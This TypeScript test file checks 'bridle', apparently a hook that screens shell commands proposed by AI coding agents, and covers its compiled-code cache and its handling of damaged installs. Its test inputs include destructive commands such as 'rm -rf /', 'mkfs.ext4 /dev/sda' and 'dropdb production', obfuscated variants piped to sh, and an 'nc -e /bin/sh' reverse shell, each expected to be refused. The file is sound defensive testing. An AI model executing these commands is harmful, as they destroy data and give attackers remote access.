import { spawnSync } from 'node:child_process';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { describe, expect, it } from 'vitest';

const ROOT = resolve(import.meta.dirname, '../..');

/** After so many events that use a file, its compiled code is complete. */
const LESSONS = 8;

/** A package as it is right after its installation: nothing compiled yet. */
class Installation {
  readonly root = mkdtempSync(join(tmpdir(), 'bridle-installed-'));
  readonly cache = join(this.root, 'dist/hook/code-cache');

  constructor() {
    cpSync(join(ROOT, 'bin'), join(this.root, 'bin'), { recursive: true });
    cpSync(join(ROOT, 'dist/hook'), join(this.root, 'dist/hook'), { recursive: true });
    rmSync(this.cache, { recursive: true });
    mkdirSync(join(this.root, 'project'));
  }

  get kept(): readonly string[] {
    return readdirSync(join(this.cache, `${process.version}-${process.arch}`)).toSorted();
  }

  private at(name: string): string {
    return join(this.cache, `${process.version}-${process.arch}`, name);
  }

  sizeOf(name: string): number {
    return statSync(this.at(name)).size;
  }

  /** What was found of Node's inner functions, under whatever options. */
  get said(): readonly string[] {
    return readdirSync(this.cache).flatMap((folder) => {
      const file = join(this.cache, folder, 'inner');
      return existsSync(file) ? [readFileSync(file, 'utf8')] : [];
    });
  }

  /** Options with which this is done before anything else. */
  beforehand(code: string): string {
    const file = join(this.root, 'beforehand.cjs');
    writeFileSync(file, code);
    return `--require ${file}`;
  }

  damage(name: string): void {
    truncateSync(this.at(name), 1000);
  }

  /** Twenty of them, all over the code. */
  flipBytes(name: string): void {
    const bytes = readFileSync(this.at(name));
    for (let at = 1; at <= 20; at += 1) {
      const place = Math.floor((bytes.length * at) / 21);
      bytes[place] = (bytes[place] ?? 0) ^ 0x5a;
    }
    writeFileSync(this.at(name), bytes);
  }

  judge(
    command: string,
    options?: string,
    agent = 'claude-code',
  ): { exitCode: number | null; stderr: string } {
    const cwd = join(this.root, 'project');
    const event = { cwd, hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command } };
    const { status, stderr } = spawnSync(
      process.execPath,
      [join(this.root, 'bin/bridle.js'), 'hook', '--agent', agent],
      {
        cwd,
        input: JSON.stringify(event),
        env: {
          PATH: process.env['PATH'],
          HOME: this.root,
          ...(options === undefined ? {} : { NODE_OPTIONS: options }),
        },
        encoding: 'utf8',
      },
    );
    return { exitCode: status, stderr };
  }
}

describe.skipIf(process.platform === 'win32')("Node's inner functions", () => {
  const threeEvents = (installation: Installation, options?: string): readonly unknown[] =>
    ['npm test', 'rm -rf /', 'cp a b'].map((command) => installation.judge(command, options));

  const calls = (installation: Installation): string =>
    readFileSync(join(installation.root, 'calls'), 'utf8');

  it('are used when a process of its own has found that they do what node:fs does', () => {
    const installation = new Installation();
    const options = installation.beforehand(`
      const fs = require('node:fs');
      const { binding } = process;
      const note = (name) => fs.appendFileSync(${JSON.stringify(join(installation.root, 'calls'))}, name);
      note('-');
      process.binding = (name) => {
        if (name === 'fs' && process.argv[3] !== '--try-inner') note('inner');
        return binding(name);
      };`);
    const before = threeEvents(installation, options);
    expect(installation.said).toEqual(['tried']);
    // Two events, and the trial that came with the second.
    expect(calls(installation)).toBe('----inner');
    expect(threeEvents(installation, options)).toEqual(before);
    expect(calls(installation)).toBe('----inner-inner-inner-inner');
  });

  it('are left alone where calling them ends the process', () => {
    const installation = new Installation();
    const options = installation.beforehand(`
      const { binding } = process;
      process.binding = (name) => (name === 'fs' ? { ...binding(name), lstat: () => process.abort() } : binding(name));`);
    const before = threeEvents(installation, options);
    expect(before.map((answer) => Object(answer).exitCode)).toEqual([0, 2, 0]);
    expect(installation.said).toEqual(['refused']);
    expect(threeEvents(installation, options)).toEqual(before);
  });

  it.each([
    ['another size', 'fstat: (...words) => binding(name).fstat(...words).map((figure) => figure + 1)'],
    ['nothing of what is written', 'writeString: () => 1'],
    ['no error', 'unlink: () => undefined'],
    ['another text', "readlink: () => 'elsewhere'"],
  ])('are left alone where they give %s', (_, different) => {
    const installation = new Installation();
    const options = installation.beforehand(`
      const { binding } = process;
      process.binding = (name) => (name === 'fs' ? { ...binding(name), ${different} } : binding(name));`);
    threeEvents(installation, options);
    expect(installation.said).toEqual(['refused']);
  });

  it('are left alone where somebody wants to be warned of them', () => {
    const installation = new Installation();
    threeEvents(installation, '--pending-deprecation');
    expect(installation.said).toEqual(['refused']);
  });
});

describe('compiled code', () => {
  it('is kept by the first event that needs it, used by the next, and complete after the eighth', () => {
    const installation = new Installation();
    expect(installation.judge('npm test').exitCode).toBe(0);
    expect(installation.kept).toEqual(['entry.cjs.young']);
    const young = installation.sizeOf('entry.cjs.young');
    const first = installation.judge('rm -rf /');
    expect(first.exitCode).toBe(2);
    expect(installation.kept).toContain('shell.cjs.young');
    for (let lesson = 2; lesson < LESSONS; lesson += 1) expect(installation.judge('rm -rf /')).toEqual(first);
    // What was learnt from the refusals has come to what was there.
    expect(installation.sizeOf('entry.cjs.bin')).toBeGreaterThan(young);
    expect(installation.kept).toContain('shell.cjs.young');
    expect(installation.judge('rm -rf /')).toEqual(first);
    expect(installation.kept.filter((name) => /^(?:entry|shell)/.test(name))).toEqual([
      'entry.cjs.bin',
      'shell.cjs.bin',
    ]);
    expect(installation.judge('rm -rf /')).toEqual(first);
  });

  it('is loaded for the programs that a line names, and for no others', () => {
    const installation = new Installation();
    const roomsFor = (command: string): readonly string[] => {
      rmSync(installation.cache, { recursive: true, force: true });
      const { exitCode, stderr } = installation.judge(command);
      expect(exitCode).toBe(2);
      expect(stderr).not.toContain('could not judge');
      return installation.kept.flatMap((name) => /^shell-([\w-]+)/.exec(name)?.[1] ?? []);
    };
    expect(roomsFor('rm -rf /')).toEqual([]);
    expect(installation.kept).toEqual(['entry.cjs.young', 'shell.cjs.young']);
    expect(roomsFor('for f in *.ts; do rm -rf / || exit 1; done > "$log"')).toEqual([]);
    expect(roomsFor('sudo rm -rf /')).toEqual(['wrappers']);
    expect(roomsFor('chmod -R 777 /')).toEqual(['files']);
    expect(roomsFor('rm -rf ~')).toEqual(['words']);
    expect(roomsFor('cd / && rm -rf *')).toEqual([]);
    expect(roomsFor('[ -d / ] && rm -rf /')).toEqual(['builtins']);
    expect(roomsFor('git push --force origin main')).toEqual(['git']);
    expect(roomsFor('mkfs.ext4 /dev/sda')).toEqual(['system']);
    expect(roomsFor('dropdb production')).toEqual(['databases']);
    expect(roomsFor('find / -delete')).toEqual(['lists']);
    expect(roomsFor('tar -xf a.tar -C /')).toEqual(['archives']);
    expect(roomsFor('sed -i s/a/b/ /etc/passwd')).toEqual(['edits', 'sed', 'texts', 'words']);
    expect(roomsFor("make -f- <<< 'a:; rm -rf /'")).toEqual(['parser', 'recipes']);
    expect(roomsFor('ssh host rm -rf /')).toEqual(['remote', 'transfer']);
    expect(roomsFor('echo / | awk \'{print "rm -rf " toupper($1)}\' | sh')).toEqual([
      'awk-functions',
      'awk',
      'starters',
      'texts',
    ]);
    expect(roomsFor('jq -nr \'"rm -rf /"\' | sh')).toEqual(['jq', 'starters', 'texts']);
    expect(roomsFor('nc -e /bin/sh example.com 4444')).toEqual(['network']);
    expect(roomsFor('echo cm0gLXJmIC8= | base64 -d | sh')).toEqual(['starters', 'texts']);
    expect(roomsFor('powershell -c "Remove-Item -Recurse -Force C:\\"')).toEqual(['parser', 'windows']);
    expect(roomsFor('rm -rf "$(echo /)"')).toEqual([]);
    expect(roomsFor("sh <<'E'\nrm -rf /\nE")).toEqual(['starters']);
    expect(roomsFor('sh <<E\nrm -rf $(echo /)\nE')).toEqual(['parser', 'starters']);
    expect(roomsFor('perl -e "unlink glob(\'/*\')"')).toEqual(['code']);
  });

  it('is not loaded for a module of Node where git can be asked without it', () => {
    const installation = new Installation();
    expect(installation.judge('git commit -m x').exitCode).toBe(0);
    const files = installation.kept.map((name) => name.replace(/\.cjs\.young$/, ''));
    expect(files.filter((name) => name.startsWith('children'))).toEqual(['children']);
  });

  it.each(['codex', 'gemini-cli', 'cursor', 'copilot-cli', 'kimi-code', 'qwen-code', 'opencode', 'kiro'])(
    'of how %s is spoken to is loaded without what is known of it and of how to install there',
    (agent) => {
      const installation = new Installation();
      installation.judge('npm test', undefined, agent);
      const files = installation.kept.map((name) => name.replace(/\.cjs\.young$/, ''));
      expect(files).toEqual(expect.arrayContaining(['agents', 'entry']));
      expect(files.filter((name) => name === 'rare' || name.startsWith('lore-'))).toEqual([]);
    },
  );

  it('is in files that never ask for one that is still being loaded, whose exports are not there yet', () => {
    const asked = new Map(
      readdirSync(join(ROOT, 'dist/hook'))
        .filter((name) => name.endsWith('.cjs'))
        .map((name) => {
          const text = readFileSync(join(ROOT, 'dist/hook', name), 'utf8');
          const atOnce = text.matchAll(/(?<!=>)require\("\.\/([\w-]+\.cjs)"\)/g);
          return [name, [...atOnce].map(([, other = '']) => other)];
        }),
    );
    const waysFrom = (name: string, way: readonly string[]): readonly string[] =>
      way.includes(name)
        ? [[...way, name].join(' > ')]
        : (asked.get(name) ?? []).flatMap((other) => waysFrom(other, [...way, name]));
    expect(asked.get('shell-system.cjs')).toEqual(['entry.cjs', 'shell.cjs']);
    expect([...asked.keys()].flatMap((name) => waysFrom(name, []))).toEqual([]);
  });

  it('is kept apart for each set of options that Node is given, and not for endlessly many', () => {
    const installation = new Installation();
    const folders = (): number => readdirSync(installation.cache).length;
    installation.judge('npm test');
    installation.judge('npm test', '--max-old-space-size=4096');
    installation.judge('npm test', '--max-old-space-size=4096');
    expect(folders()).toBe(2);
    for (let size = 1000; size < 1020; size += 1)
      expect(installation.judge('npm test', `--max-old-space-size=${size}`).exitCode).toBe(0);
    expect(folders()).toBe(16);
  });

  it('that is damaged is made again', () => {
    const installation = new Installation();
    const first = installation.judge('rm -rf /');
    for (const name of ['entry', 'shell']) installation.damage(`${name}.cjs.young`);
    for (let lesson = 0; lesson < LESSONS; lesson += 1) expect(installation.judge('rm -rf /')).toEqual(first);
    const file = join(installation.cache, `${process.version}-${process.arch}`, 'shell.cjs.bin');
    truncateSync(file, 1000);
    expect(installation.judge('rm -rf /')).toEqual(first);
    truncateSync(file, 0);
    expect(installation.judge('rm -rf /')).toEqual(first);
    rmSync(file);
    mkdirSync(file);
    expect(installation.judge('rm -rf /')).toEqual(first);
  });

  it('in which single bytes are others is not run, and made again', () => {
    const installation = new Installation();
    const first = installation.judge('rm -rf /');
    expect(first.exitCode).toBe(2);
    const damageAll = (): void => {
      for (const name of installation.kept) installation.flipBytes(name);
    };
    damageAll();
    for (let lesson = 0; lesson < LESSONS; lesson += 1) expect(installation.judge('rm -rf /')).toEqual(first);
    expect(installation.kept).toContain('entry.cjs.bin');
    damageAll();
    expect(installation.judge('rm -rf /')).toEqual(first);
  });

  it('is done without where it cannot be kept', () => {
    const installation = new Installation();
    // Not permissions: root has them all.
    writeFileSync(installation.cache, '');
    expect(installation.judge('rm -rf /').exitCode).toBe(2);
    expect(installation.judge('npm test')).toEqual({ exitCode: 0, stderr: '' });
  });
});

describe('a damaged installation', () => {
  it.each(['entry.cjs', 'shell.cjs', 'files.cjs', 'shell-git.cjs'])('without %s refuses', (name) => {
    const installation = new Installation();
    rmSync(join(installation.root, 'dist/hook', name));
    const { exitCode, stderr } = installation.judge('git status "$X"; rm -rf /');
    expect(exitCode).toBe(2);
    expect(stderr).not.toBe('');
  });
});
